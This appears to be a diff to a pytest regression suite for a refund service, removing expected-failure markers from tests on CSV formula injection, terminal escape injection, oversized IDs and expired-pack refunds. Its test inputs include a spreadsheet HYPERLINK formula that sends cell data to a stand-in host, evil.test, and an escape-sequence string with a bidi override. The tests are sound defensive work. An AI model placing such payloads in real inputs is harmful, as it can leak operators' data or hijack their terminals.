@@ -57,9 +57,6 @@ def _refund_with_reason(client: FlaskClient, admin: dict[str, str], reason: str)
     assert done.status_code == 201, done.json
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "`report refunds --csv` writes the free-text reason raw: a reason starting with '=' is a "
-    "formula when the operator opens the CSV (the dashboard CSV quotes such text, OWASP)"))
 def test_refund_report_csv_does_not_hand_a_spreadsheet_a_formula(
         client: FlaskClient, admin: dict[str, str], api_container: Container) -> None:
     _refund_with_reason(client, admin, '=HYPERLINK("http://evil.test/?x="&A1,"open")')
@@ -68,10 +65,6 @@ def test_refund_report_csv_does_not_hand_a_spreadsheet_a_formula(
     assert ",=HYPERLINK" not in last and ',"=HYPERLINK' not in last, last
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "the refund reason accepts terminal escapes and bidi controls, and `report refunds` "
-    "prints it raw (app.domain.text.escaped is not used): ESC sequences act on the "
-    "operator's terminal"))
 def test_refund_report_text_does_not_print_terminal_escapes(
         client: FlaskClient, admin: dict[str, str], api_container: Container) -> None:
     _refund_with_reason(client, admin, "ok\x1b[2J\x1b]8;;http://evil.test\x07click\u202e")
@@ -117,9 +110,6 @@ def test_credits_kept_for_an_open_hold_are_not_lost_in_the_forecast(
     assert f.days_left == int(1850 / (150 / 7)), f
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "the refund route's <int:entry_id> takes any size of number: one past 64 bits reaches the "
-    "database driver (OverflowError / out of range) and answers 500 instead of 404"))
 @pytest.mark.parametrize("entry_id", ["9223372036854775808", "99999999999999999999999"])
 def test_refund_of_an_entry_id_past_64_bits_is_404_not_500(
         client: FlaskClient, admin: dict[str, str], entry_id: str) -> None:
@@ -129,10 +119,6 @@ def test_refund_of_an_entry_id_past_64_bits_is_404_not_500(
     assert response.status_code == 404, response.get_json()
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "refundable_credits looks only at block.remaining: a pack past its expiry whose credits are "
-    "kept back for an open hold is still 'refunded' (money back for expired credits, and the "
-    "hold's reserved credits voided) instead of not_refundable"))
 def test_an_expired_pack_kept_for_an_open_hold_is_not_refunded(
         sql_ledger: LedgerService, clock: FakeClock) -> None:
     from app.domain.refunds import NotRefundable
